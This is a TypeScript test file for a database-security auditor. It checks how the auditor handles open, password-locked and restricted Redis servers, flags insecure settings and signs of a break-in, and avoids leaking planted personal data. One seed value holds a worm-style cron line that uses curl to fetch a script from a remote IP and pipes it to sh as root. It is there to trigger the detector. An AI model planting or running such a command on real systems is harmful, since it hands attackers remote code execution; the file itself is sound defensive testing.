import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { allowListed } from '../support/allow-listed.ts';
import { rulesOf, testEngine, typesByField } from '../support/engine.ts';
import { leaksInFolder, leaksInReports } from '../support/leaks.ts';
import { expectSturdy } from '../support/mangler.ts';
import { plantedPeople } from '../support/people.ts';
import { has, type RealServer, startRedis } from '../support/processes.ts';
import { tellRedis } from '../support/redis-client.ts';
import { expectStore } from '../support/store-suite.ts';
import { startTcpFixture } from '../support/tcp-fixture.ts';

const planted = plantedPeople(60, 'redis');

const seeds = [
  ...planted.records.map((record, n) => ['SET', `profile:${1000 + n}`, JSON.stringify(record)]),
  ...planted.records.map((record, n) => [
    'HSET',
    `user:${1000 + n}`,
    'email',
    String(record.email),
    'visits',
    String(n),
  ]),
  ...planted.records.map((record, n) => ['RPUSH', `email:${1000 + n}`, String(record.email)]),
  ['SET', 'backup1', '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n'],
];

describe.skipIf(!has('redis'))('Redis', () => {
  let open: RealServer;
  let locked: RealServer;
  let partly: RealServer;
  beforeAll(async () => {
    [open, locked, partly] = await Promise.all([
      startRedis('--protected-mode', 'no'),
      startRedis('--requirepass', 'Kestrel-7741'),
      startRedis(
        '--user',
        'default',
        'on',
        'nopass',
        '~profile:*',
        '-@all',
        '+@read',
        '+ping',
        '+info',
        '+dbsize',
        '+select',
      ),
    ]);
    await tellRedis(open.port, seeds);
    await tellRedis(locked.port, [['AUTH', 'Kestrel-7741'], ...seeds]);
  });
  afterAll(async () => {
    await Promise.all([open?.stop(), locked?.stop(), partly?.stop()]);
  });

  test('spoilt answers end in a line, not in a fault', async () => {
    await expectSturdy('redis://', open.port);
  });

  test('open: version, access, patterns, fields, findings; nothing raw is kept', async () => {
    const ajar = testEngine();
    const audited = await ajar.audit(`127.0.0.1:${open.port}`);
    const store = audited.store(open.port);
    expect(store).toMatchObject({ kind: 'redis', product: 'Redis', access: 'admin', complete: true, errors: [] });
    expect(store.version).toMatch(/^\d+\.\d+/);
    expect(store.namespaces.map((n) => n.name).toSorted()).toEqual(
      ['db0 backup*', 'db0 email:*', 'db0 profile:*', 'db0 user:*'].toSorted(),
    );
    const fields = typesByField(store);
    expect(fields['db0 profile:* profile.email']).toContain('email');
    expect(fields['db0 profile:* profile.wifi.ssid']).toContain('wifi-ssid');
    expect(fields['db0 user:* email']).toContain('email');
    expect(fields['db0 email:* email[]']).toContain('email');
    expect(rulesOf(store)).toEqual(
      expect.arrayContaining([
        'redis.no-authentication',
        'redis.personal-data-readable',
        'redis.dangerous-commands',
        'redis.protected-mode-off',
        'redis.config-readable',
        'redis.signs-of-a-break-in',
        'redis.no-tls',
      ]),
    );
    allowListed(audited, 'redis');
    expect(await leaksInReports(ajar.engine, audited.auditId, planted.raw)).toEqual([]);
    await ajar.close(true);
    expect(leaksInFolder(ajar.dataDir, planted.raw)).toEqual([]);
  });

  test('with a password: a stranger gets nothing; with it the store is read', async () => {
    const ajar = testEngine();
    const audited = await ajar.audit(`127.0.0.1:${locked.port}`);
    expect(audited.store(locked.port)).toMatchObject({
      access: 'none',
      capabilities: { read: { state: 'denied' }, metadata: { state: 'denied' } },
    });
    expect(rulesOf(audited.store(locked.port))).not.toContain('redis.no-authentication');
    const known = await ajar.audit(`127.0.0.1:${locked.port}`, {
      credential: { user: 'default', password: 'Kestrel-7741' },
    });
    expect(known.store(locked.port)).toMatchObject({ access: 'admin', as: 'default' });
    expect(typesByField(known.store(locked.port))['db0 user:* email']).toContain('email');
    expect(rulesOf(known.store(locked.port))).not.toContain('redis.no-authentication');
    allowListed(audited, 'redis');
    await ajar.close();
  });

  test('a default user of few rights may read and not write', async () => {
    const ajar = testEngine();
    const audited = await ajar.audit(`127.0.0.1:${partly.port}`);
    const store = audited.store(partly.port);
    expect(store.capabilities.write.state).not.toBe('proven');
    expect(store.capabilities.admin.state).not.toBe('proven');
    expect(store.capabilities.metadata.state).toBe('proven');
    expect(rulesOf(store)).not.toContain('redis.dangerous-commands');
    expect(rulesOf(store)).not.toContain('redis.config-readable');
    allowListed(audited, 'redis');
    await ajar.close();
  });
});

/** Answers as a Redis that a worm has been in: by fixture, since nothing may be connected to the internet for it. */
const infected = [
  'redis_version:6.2.14',
  'role:slave',
  'master_host:8.8.4.4',
  'connected_slaves:2',
  'slave0:ip=10.0.0.7,port=6379,state=online,offset=1,lag=0',
  'slave1:ip=8.8.8.8,port=6379,state=online,offset=1,lag=0',
  'module:name=search,ver=20612,api=1,filters=0',
  'module:name=system,ver=1,api=1,filters=0',
].join('\r\n');

test('replication with the internet and a foreign module are told, by fixture', async () => {
  const bulk = (value: string) => `$${Buffer.byteLength(value)}\r\n${value}\r\n`;
  const server = await startTcpFixture((socket) =>
    socket.on('data', (chunk: Buffer) => {
      const words = chunk
        .toString('utf8')
        .split('\r\n')
        .filter((word) => word !== '' && !/^[*$]/.test(word));
      const command = (words[0] ?? '').toUpperCase();
      if (command === 'PING') socket.write('+PONG\r\n');
      else if (command === 'INFO') socket.write(bulk(infected));
      else if (command === 'DBSIZE') socket.write(':0\r\n');
      else if (command === 'GETRANGE') socket.write(bulk(''));
      else if (command === 'SCAN') socket.write('*2\r\n$1\r\n0\r\n*0\r\n');
      else socket.write('-ERR unknown command\r\n');
    }),
  );
  const store = await expectStore(`redis://127.0.0.1:${server.port}`, server.port, {
    kind: 'redis',
    product: 'Redis',
    access: 'read',
    rules: ['strange-peers', 'strange-modules'],
  });
  const evidence = (rule: string) => store.findings.find((finding) => finding.rule === rule)?.evidence;
  expect(evidence('redis.strange-peers')).toEqual(['replica 8.8.8.8', 'master 8.8.4.4']);
  expect(evidence('redis.strange-modules')).toEqual(['system']);
  await server.stop();
});
